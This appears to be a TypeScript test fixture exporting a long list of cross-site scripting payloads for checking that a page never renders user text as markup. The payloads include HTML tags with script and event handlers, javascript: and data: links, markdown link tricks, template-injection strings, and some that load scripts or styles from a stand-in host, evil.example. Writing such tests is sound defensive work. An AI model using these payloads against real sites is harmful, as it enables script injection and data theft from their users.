/** Texts that would run as script if the page ever took a text for markup. Each would set `window.ran` or open a dialog. */

const run = 'window.ran=1'
const tags = [
  `<script>${run}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<body onload=${run}>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`, `<iframe src="javascript:parent.ran=1"></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<a href="javascript:${run}">click</a>`,
  `<details open ontoggle=${run}>x</details>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>`,
  `<form action="javascript:${run}"><button>x</button></form>`, `<button formaction="javascript:${run}">x</button>`, `<math><mtext><img src=x onerror=${run}></mtext></math>`, `<template><script>${run}</script></template>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href="data:text/html,<script>parent.ran=1</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<base href=//evil.example/>`, `<style>@import '//evil.example/x.css'</style>`, `<style>*{background:url(//evil.example/?x)}</style>`, `<div style="background:url(javascript:${run})">`, `<div style="width:expression(${run})">`,
  `<xss id=x tabindex=1 onfocus=${run}></xss>`, `<img/src/onerror=${run}>`, `<img src="x\` onerror=${run}\`">`, `<<script>${run}//<</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<img src=x:x onerror\x0B=${run}>`, `<img\nsrc=x\nonerror=${run}>`, `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`, `<?xml-stylesheet href="javascript:${run}"?>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<title><a href="</title><img src=x onerror=${run}>">`, `<xmp><img src=x onerror=${run}></xmp>`, `</script><script>${run}</script>`, `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `" onmouseover="${run}" x="`, `' onfocus='${run}' autofocus='`, `" autofocus onfocus=${run} "`, `<dialog open onclose=${run}>x</dialog>`, `<portal src="javascript:${run}">`, `<isindex action="javascript:${run}">`,
]
const links = [
  `[x](javascript:${run})`, `[x](JaVaScRiPt:${run})`, `[x]( javascript:${run})`, `[x](java\tscript:${run})`, `[x](javascript&colon;${run})`, `[x](&#106;avascript:${run})`, `[x](vbscript:msgbox(1))`, `[x](data:text/html,<script>${run}</script>)`, `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)`,
  `![x](javascript:${run})`, `![x](x"onerror="${run})`, `![x](//evil.example/pixel.png)`, `![x](https://evil.example/pixel.png "onload=${run}")`, `<javascript:${run}>`, `<data:text/html,x>`, `[x]: javascript:${run}\n\n[x]`, `[![x](x)](javascript:${run})`, `[x](file:///etc/passwd)`, `[x](blob:https://evil.example/1)`,
  `[x](//evil.example)`, `[<img src=x onerror=${run}>](http://a.example)`, `[x](http://a.example"onclick="${run})`, `[x](http://a.example 'x" onclick="${run}')`, `https://a.example/"onmouseover="${run}`,
]
const other = [
  `\`<img src=x onerror=${run}>\``, `\`\`\`html\n<script>${run}</script>\n\`\`\``, `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``, `| <img src=x onerror=${run}> | b |\n| --- | --- |\n| <svg onload=${run}> | c |`, `> <img src=x onerror=${run}>`, `- [x] <img src=x onerror=${run}>`, `# <img src=x onerror=${run}>`,
  `&lt;img src=x onerror=${run}&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `#{${run}}`, `__proto__`, `constructor`, `\u202E<script>${run}</script>\u202C`, `\u0000<script>${run}</script>`.replace('\u0000', '\uFEFF'),
  `＜script＞${run}＜/script＞`, `${'>'.repeat(2000)} deep`, `${'['.repeat(3000)}x`, `${'*'.repeat(3000)}x`, `${'- '.repeat(500)}x`, `<style>${'a{}'.repeat(10)}</style><img src=x onerror=${run}>`, `javascript:${run}`, `';${run};//`, `*/${run}/*`,
]
export const payloads: readonly string[] = [...tags, ...links, ...other]
